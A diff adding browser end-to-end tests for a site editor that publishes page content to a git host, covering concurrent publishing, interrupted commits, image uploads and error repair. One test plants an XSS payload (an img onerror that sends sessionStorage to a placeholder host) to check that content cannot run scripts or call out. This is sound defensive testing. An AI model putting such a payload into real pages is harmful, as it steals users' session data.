@@ -2,6 +2,7 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
+import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
 import { listFiles } from '../disk/read-folder.ts'
 import { hostOfContent } from './edited-site.ts'
@@ -236,5 +237,131 @@ test('the token is in one storage and one header, and sign out forgets it', asyn
     await signIn(page)
     await toolbar(page).waitFor()
     expect(await stored()).toEqual([true, false])
+  })
+})
+
+test('two editors who publish at once lose nothing, and neither waits for the other', async () => {
+  reset()
+  await visiting(WIDE, async ({ page: one }) => {
+    await visiting({ ...WIDE, locale: 'en-GB' }, async ({ page: two }) => {
+      await opened(one, '/about')
+      await opened(two, '/faq')
+      await changeHeading(one, 'Who we are')
+      await changeHeading(two, 'What parents ask')
+      for (const page of [one, two]) {
+        await page.keyboard.press('Escape')
+        await toolbar(page).getByRole('button', { name: 'Publish' }).click()
+      }
+      const buttons = [one, two].map((page) => panel(page).getByRole('button', { name: 'Publish', exact: true }))
+      await Promise.all(buttons.map((button) => button.waitFor()))
+      await Promise.all(buttons.map((button) => button.click()))
+      await Promise.all([one, two].map((page) => page.getByText('Published.').waitFor()))
+      expect(host.log()).toHaveLength(3)
+      expect(host.text('content/pages/about.yaml')).toContain('Who we are')
+      expect(host.text('content/pages/faq.yaml')).toContain('What parents ask')
+    })
+  })
+})
+
+test('a tab that is closed while it publishes leaves one commit, and the next one knows of it', async () => {
+  reset()
+  await visiting(WIDE, async ({ page, context }) => {
+    await opened(page, '/about')
+    await changeHeading(page, 'Who we are')
+    await page.keyboard.press('Escape')
+    host.fault({ at: /commit$/, times: 1, cut: 'after' })
+    const committed = expect.poll(() => host.log().length, { timeout: SOON }).toBe(2)
+    await publish(page)
+    await committed
+    const next = await context.newPage()
+    await page.close()
+    next.setDefaultTimeout(SOON)
+    await opened(next, '/about')
+    await toolbar(next).getByRole('button', { name: 'Publish' }).click()
+    await panel(next).getByText('Nothing has changed').waitFor()
+    expect(host.log()).toHaveLength(2)
+    expect(await next.locator('main h1').textContent()).toBe('Who we are')
+  })
+})
+
+test('a picture is shown before it is online, and published with the words that name it', async () => {
+  reset()
+  const photo = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#3366cc' } })
+    .jpeg()
+    .toBuffer()
+  await visiting(WIDE, async ({ page, problems }) => {
+    await opened(page, '/about')
+    const image = page.locator('main img').first()
+    await image.click()
+    await panel(page)
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'Our room.jpg', mimeType: 'image/jpeg', buffer: photo })
+    await page
+      .getByRole('status')
+      .filter({ hasText: /^Saved/ })
+      .waitFor()
+    await expect.poll(() => image.getAttribute('src')).toMatch(/^blob:/)
+    await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(60)
+    await page.keyboard.press('Escape')
+    await publish(page)
+    await page.getByText('Published.').waitFor()
+    const [name = ''] = /images\/our-room-\w+\.jpg/.exec(host.text('content/educators.yaml') ?? '') ?? []
+    const sha = host.repository.find(`main:content/${name}`) ?? ''
+    expect((await sharp(host.repository.read(sha)?.bytes).metadata()).width).toBe(60)
+    expect(problems).toEqual([])
+  })
+})
+
+test('content with an error is reported, and mended from here', async () => {
+  reset()
+  const about = host.text('content/pages/about.yaml') ?? ''
+  host.commit({ 'content/pages/about.yaml': about.replace('heading: We know', 'headng: We know') })
+  await visiting(WIDE, async ({ page }) => {
+    await page.goto(`${site.url}edit?page=/about`)
+    await signIn(page)
+    await page.getByRole('alert').filter({ hasText: 'The content has errors' }).waitFor()
+    await page
+      .getByText(/headng/)
+      .first()
+      .waitFor()
+    await page.getByRole('button', { name: 'Mend it' }).click()
+    await page.getByRole('button', { name: 'Write this' }).click()
+    await page.getByText('Written.').waitFor()
+    await signIn(page)
+    await toolbar(page).waitFor()
+    expect(await page.locator('main h1').textContent()).toBe('We know every child by name')
+  })
+})
+
+test('content cannot run anything here, nor ask anybody', async () => {
+  reset()
+  const about = host.text('content/pages/about.yaml') ?? ''
+  const nasty = '<img src=x onerror="fetch(`http://localhost:1/` + sessionStorage)"><script>alert(1)</script>'
+  host.commit({ 'content/pages/about.yaml': about.replace('We know every child by name', JSON.stringify(nasty)) })
+  await visiting(WIDE, async ({ page, context }) => {
+    const asked: string[] = []
+    context.on('request', (request) => asked.push(new URL(request.url()).host))
+    const dialogs: string[] = []
+    page.on('dialog', (dialog) => dialogs.push(dialog.message()))
+    await opened(page, '/about')
+    await page.waitForTimeout(500)
+    expect(dialogs).toEqual([])
+    expect([...new Set(asked)].sort()).toEqual([`localhost:${inject('gitHostPort')}`, new URL(site.url).host].sort())
+    // Scripts of the page itself may not ask others either.
+    const refused = await page.evaluate(() =>
+      fetch('http://localhost:1/').then(
+        () => 'asked',
+        () => 'refused',
+      ),
+    )
+    expect(refused).toBe('refused')
+    expect(
+      await page.evaluate(() =>
+        fetch('/faq').then(
+          () => 'asked',
+          () => 'refused',
+        ),
+      ),
+    ).toBe('refused')
   })
 })
